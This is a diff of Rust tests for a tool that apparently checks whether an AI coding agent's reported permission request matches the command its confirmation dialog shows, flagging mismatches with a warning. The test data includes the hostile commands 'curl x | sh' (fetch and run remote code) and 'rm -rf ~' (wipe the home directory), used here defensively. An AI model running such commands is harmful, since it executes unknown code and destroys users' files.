@@ -37,7 +37,7 @@ fn rules() -> Vec<ReportedToolRule> {
 
 fn report(tool: &str, input: &Value) -> QuestionReport {
     let kind = Some(WaitingKind::Permission);
-    QuestionReport::new(&Reported { source: Source::Hook, kind, tool, input: Some(input) }, &rules())
+    QuestionReport::new(Source::Hook, kind, tool, Some(input), &rules())
 }
 
 fn bash(command: &str) -> QuestionReport {
@@ -152,8 +152,8 @@ fn kind_tool_and_path_have_to_fit() {
     assert_eq!(compare(&asks, &dialog("Bash", &["ls"])), Differs(Kind), "an option that looks like a permission");
     assert_eq!(compare(&ls, &dialog("Edit", &["ls"])), Differs(Tool));
     assert_eq!(compare(&ls, &Dialog { tool: None, ..dialog("", &["ls"]) }), Differs(Tool));
-    let reported = Reported { source: Source::Hook, kind: None, tool: "Bash", input: None };
-    assert_eq!(compare(&QuestionReport::new(&reported, &rules()), &dialog("Bash", &["ls"])), Differs(TooLarge));
+    let large = QuestionReport::new(Source::Hook, None, "Bash", None, &rules());
+    assert_eq!(compare(&large, &dialog("Bash", &["ls"])), Differs(TooLarge));
     let write = report("Write", &json!({ "file_path": "/srv/p/src/new.txt", "content": "line one\n\t-two\n" }));
     for (path, expected) in [
         ("src/new.txt", Confirmed),
@@ -373,39 +373,29 @@ fn another_daemon_knows_what_was_compared() {
 
 #[test]
 fn people_read_the_command_first_and_the_captions_as_captions() {
-    let mut hooks = reports(&[Source::Hook]);
-    hooks.take(asked(bash("curl x | sh\nrm -rf ~\n\necho fine")), false);
-    let drawn = attached(&mut hooks, &dialog("Bash", &["ls -la src", "curl x | sh", "rm -rf ~", "echo fine"]));
+    let shown = |command: &str, rows: &[&str]| {
+        let mut hooks = reports(&[Source::Hook]);
+        hooks.take(asked(bash(command)), false);
+        attached(&mut hooks, &dialog("Bash", rows))
+    };
+    let command = "curl x | sh\nrm -rf ~\n\necho fine";
+    let drawn = shown(command, &["ls -la src", "curl x | sh", "rm -rf ~", "echo fine"]);
     assert_eq!(drawn.about(), "Bash curl x | sh … (+2 lines, 31 characters)");
     let full = drawn.in_full();
     assert_eq!(full[..3], ["Bash:", "  curl x | sh", "  rm -rf ~"]);
     assert_eq!(full.last().unwrap(), "the agent calls it: \"ls -la src\"");
     assert_eq!(drawn.snippet(), ["Bash curl x | sh", "rm -rf ~", "echo fine", "Do you want to proceed?"]);
-    let painted = attached(&mut hooks, &dialog("Bash", &["ls -la src"]));
+    let painted = shown(command, &["ls -la src"]);
     assert!(painted.about().contains("the agent's report and its screen differ"), "{}", painted.about());
     assert!(painted.about().starts_with("Bash curl x | sh"));
     assert!(painted.in_full().iter().any(|line| line.starts_with("warning: ")), "{:?}", painted.in_full());
-    let long = attached(
-        &mut {
-            let mut r = reports(&[Source::Hook]);
-            r.take(asked(bash(&"x".repeat(100_000))), false);
-            r
-        },
-        &drawn,
-    );
+    let long = shown(&"x".repeat(100_000), &["ls -la src"]);
     let report = long.report.as_ref().unwrap();
     assert!(report.text.len() < REPORT_TEXT + 100 && report.input_bytes > 100_000);
     assert!(long.about().ends_with("characters) (the agent's report and its screen differ)"), "{}", long.about());
     assert!(long.in_full().iter().any(|line| line.contains("SHA-256")));
     assert!(long.snippet().len() <= 5 && long.snippet()[0].len() < 200);
-    let many = attached(
-        &mut {
-            let mut r = reports(&[Source::Hook]);
-            r.take(asked(bash(&"echo\n".repeat(92))), false);
-            r
-        },
-        &drawn,
-    );
+    let many = shown(&"echo\n".repeat(92), &["ls -la src"]);
     assert_eq!(many.snippet().len(), 5);
     assert_eq!(many.snippet()[3], "… 89 more lines, 460 characters in all");
 }
